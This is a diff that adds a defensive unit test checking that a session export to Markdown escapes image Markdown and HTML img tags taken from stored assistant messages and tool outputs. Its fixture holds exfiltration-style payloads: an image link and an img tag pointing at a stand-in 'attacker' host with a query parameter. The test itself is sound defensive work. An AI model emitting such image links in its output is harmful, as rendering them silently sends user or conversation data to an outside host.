@@ -236,3 +236,16 @@ def test_typed_events_are_stored_as_their_dicts(store):
     assert stored[0] == route.to_dict() and stored[1] == TOOL_EV
     assert load_events(stored) == [route, call]
     assert isinstance(route, Route) and isinstance(call, ToolCall)
+
+
+def test_exported_transcript_loads_no_image_from_stored_data():
+    """A stored answer or tool output quoting a row's image Markdown exports as inert text."""
+    from app.sessions import to_markdown
+
+    session = {"title": "t", "created_at": 0}
+    messages = [{"role": "assistant", "content": "see ![x](http://attacker/leak.png?c=1)",
+                 "events": [{"kind": "tool_call", "data": {"step": 1, "tool": "run_sql", "input": "SELECT 1",
+                                                          "output": "<img src=http://attacker/i.png>", "ok": True}}]}]
+    text = to_markdown(session, messages)
+    assert "![x](" not in text and "\\<img" in text and "\n<img" not in text  # escaped: literal text
+    assert "attacker/leak.png" in text  # the data is still there, as text
